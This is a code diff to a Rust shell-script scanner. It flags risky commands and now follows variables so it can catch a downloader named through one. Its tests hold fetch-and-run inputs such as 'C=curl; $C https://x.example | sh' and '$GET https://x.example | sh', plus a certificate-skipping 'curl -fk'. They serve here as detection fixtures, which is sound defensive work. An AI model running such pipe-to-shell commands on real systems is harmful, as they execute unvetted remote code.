@@ -1,6 +1,11 @@
 //! What scripts should not do, in whatever they stand.
 
-use crate::shell::{Command, Shell, commands};
+use std::collections::HashMap;
+
+use crate::{
+    Fact, Truth,
+    shell::{Command, Shell, Word, commands},
+};
 
 /// Something that a command does.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
@@ -31,25 +36,103 @@ pub(super) enum Deed {
     OpenNotebook,
 }
 
-/// What the commands of `script` do, each with its command.
-pub(super) fn deeds(script: &str) -> Vec<(Deed, Command)> {
-    let all = commands(script, Shell::Posix);
+/// What a command does.
+pub(super) struct Did {
+    pub(super) deed: Deed,
+    /// With the variables that are known in the place of their names.
+    pub(super) command: Command,
+    /// Whether it does: a variable may name the program.
+    pub(super) truth: Truth,
+}
+
+/// What the commands of `script` do, where nobody knows what its environment holds.
+pub(super) fn deeds(script: &str) -> Vec<Did> {
+    deeds_within(script, &|_| Fact::Absent)
+}
+
+/// As [`deeds`], where `environment` has variables that the script begins with.
+pub(super) fn deeds_within(script: &str, environment: &dyn Fn(&str) -> Fact<String>) -> Vec<Did> {
+    let written = commands(script, Shell::Posix);
+    let all = filled(&written, environment);
     let mut deeds = Vec::new();
     for (at, command) in all.iter().enumerate() {
-        let mut did = of(command);
-        let is_download = DOWNLOADERS.contains(&command.inner().name());
+        for deed in of(command) {
+            deeds.push(Did {
+                deed,
+                command: written[at].clone(),
+                truth: Truth::Yes,
+            });
+        }
+        let truth = is_download(command);
+        if !command.writes_pipe || truth == Truth::No {
+            continue;
+        }
         // What stands in a substitution is listed behind the command that it is part of.
         let later = all[at + 1..].iter();
         let later = later.filter(|it| it.span.start >= command.span.end);
         // Between the two may stand what decompresses or decrypts.
         let mut pipe = later.take_while(|it| it.reads_pipe);
-        let is_run = pipe.any(|next| is_interpreter(&next.inner()));
-        if is_download && command.writes_pipe && is_run {
-            did.push(Deed::RunsDownload);
+        if pipe.any(|next| is_interpreter(&next.inner())) {
+            deeds.push(Did {
+                deed: Deed::RunsDownload,
+                command: written[at].clone(),
+                truth,
+            });
         }
-        deeds.extend(did.into_iter().map(|deed| (deed, command.clone())));
     }
     deeds
+}
+
+fn is_download(command: &Command) -> Truth {
+    let inner = command.inner();
+    match inner.words.first() {
+        Some(word) if word.expands && word.text.starts_with('$') => {
+            Truth::Unknown(format!("{} names the program", word.text).into())
+        }
+        _ => DOWNLOADERS.contains(&inner.name()).into(),
+    }
+}
+
+/// The commands with what their variables hold: what the script has assigned by then, and else what its
+/// environment has.
+fn filled(written: &[Command], environment: &dyn Fn(&str) -> Fact<String>) -> Vec<Command> {
+    let mut all = written.to_vec();
+    let mut own: HashMap<String, Fact<String>> = HashMap::new();
+    for command in &mut all {
+        let value = |name: &str| match own.get(name) {
+            Some(value) => value.clone(),
+            None => environment(name),
+        };
+        // A program with its first arguments may be in one variable.
+        let is_variable = |word: &Word| word.expands && word.text.starts_with('$');
+        let is_split = command.words.first().is_some_and(is_variable);
+        for word in command.words.iter_mut().filter(|word| word.expands) {
+            word.fill(&value);
+        }
+        if is_split && let Some(first) = command.words.first().cloned() {
+            let part = |text: &str| Word {
+                text: text.to_owned(),
+                ..first.clone()
+            };
+            let parts: Vec<Word> = first.text.split_whitespace().map(part).collect();
+            command.words.splice(..1, parts);
+        }
+        let is_declaration = ["export", "readonly", "local", "declare"].contains(&command.name());
+        let declared = command.words.iter().skip(1).filter(|_| is_declaration);
+        // Those before a command are for that command alone.
+        let assigned = command.assignments.iter();
+        let assigned = assigned.filter(|_| command.words.is_empty());
+        for word in assigned.chain(declared) {
+            if let Some((name, value)) = word.text.split_once('=') {
+                let value = match word.expands {
+                    true => Fact::Unknown("it is put together from others".into()),
+                    false => Fact::Known(value.to_owned()),
+                };
+                own.insert(name.to_owned(), value);
+            }
+        }
+    }
+    all
 }
 
 fn is_interpreter(command: &Command) -> bool {
@@ -277,10 +360,33 @@ mod tests {
             ("jupyter lab --NotebookApp.token=''", &[Deed::OpenNotebook]),
             ("wandb login", &[]),
             ("wandb login 0123", &[Deed::TokenArgument]),
+            ("C=curl; $C https://x.example | sh", &[Deed::RunsDownload]),
+            (
+                "export C='curl -fk'\n\"${C}\" https://x.example",
+                &[Deed::NoCertificates],
+            ),
+            ("C=curl; C=cat; $C https://x.example | sh", &[]),
+            ("echo '$C' | sh", &[]),
         ] {
-            let mut did: Vec<Deed> = deeds(script).into_iter().map(|(deed, _)| deed).collect();
+            let mut did: Vec<Deed> = deeds(script).into_iter().map(|it| it.deed).collect();
             did.sort();
             assert_eq!(did, expected, "{script}");
+        }
+    }
+
+    #[test]
+    fn a_program_that_a_variable_names_is_known_or_open() {
+        let truth = |environment: Fact<String>| {
+            let script = "$GET https://x.example | sh";
+            let mut did = deeds_within(script, &|_| environment.clone()).into_iter();
+            did.find(|it| it.deed == Deed::RunsDownload)
+                .map(|it| it.truth)
+        };
+        assert_eq!(truth(Fact::Known("curl -s".into())), Some(Truth::Yes));
+        assert_eq!(truth(Fact::Known("cat".into())), None);
+        for unknown in [Fact::Absent, Fact::Unknown("x".into())] {
+            let open = Truth::Unknown("$GET names the program".into());
+            assert_eq!(truth(unknown), Some(open));
         }
     }
 }
